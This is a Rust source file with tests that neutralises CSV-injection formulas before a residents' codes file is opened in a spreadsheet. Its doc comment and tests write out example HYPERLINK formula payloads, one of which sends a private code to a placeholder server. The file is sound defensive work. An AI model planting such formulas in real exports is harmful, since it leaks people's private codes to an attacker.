//! Cells that a spreadsheet would run as a formula (issue 26, part 3).
//!
//! WHY: `slips.csv` holds every resident's private code beside their name,
//! and names often come from residents' own registrations. A name such as
//! `=HYPERLINK("https://…?"&C2,"klik")` in a file that Excel or LibreOffice
//! opens becomes a link that sends a code to a server when clicked
//! ("CSV injection", OWASP). A spreadsheet starts a formula at a cell whose
//! first character is `=`, `+`, `-` or `@`, and Excel also after a leading
//! tab or carriage return; so every such cell of a file written for a
//! spreadsheet gets a leading `'`, which both programs show as nothing but
//! read as "this is text". WHY a `'` and not refusing: a name like
//! `-Mo-` or a note `+31 6 …` is a person's own writing and must survive;
//! the apostrophe is the usual, visible-only-in-the-formula-bar practice.
//! Ids are different: `commit` refuses an id that starts like a formula
//! (`csv-id-formula`), so an id never needs the apostrophe and is never
//! shown changed on a slip or the page.

/// Whether a spreadsheet would read `cell` as a formula (or the start of
/// one): its first character is `=`, `+`, `-`, `@`, a tab or a carriage
/// return. (One named rule, used by `commit` for ids and by every CSV
/// written for a spreadsheet.)
pub fn starts_like_formula(cell: &str) -> bool {
    matches!(cell.chars().next(), Some('=' | '+' | '-' | '@' | '\t' | '\r'))
}

/// `cell` as a spreadsheet must receive it to show it as text: with a
/// leading `'` when it starts like a formula, otherwise unchanged.
pub fn neutralise(cell: &str) -> std::borrow::Cow<'_, str> {
    if starts_like_formula(cell) {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_formula_start_is_neutralised_and_nothing_else() {
        for cell in ["=1+1", "+31 6 1234", "-5", "@SUM(A1)", "\t=1", "\r=1", "=HYPERLINK(\"https://x\",\"klik\")"] {
            assert!(starts_like_formula(cell), "{cell:?}");
            assert_eq!(neutralise(cell), format!("'{cell}"));
        }
        for cell in ["", "Joyce Mensah", "ZUID-001", "06-10000001", " =1", "'=1", "1+1", "a=b"] {
            assert!(!starts_like_formula(cell), "{cell:?}");
            assert_eq!(neutralise(cell), cell);
        }
    }
}
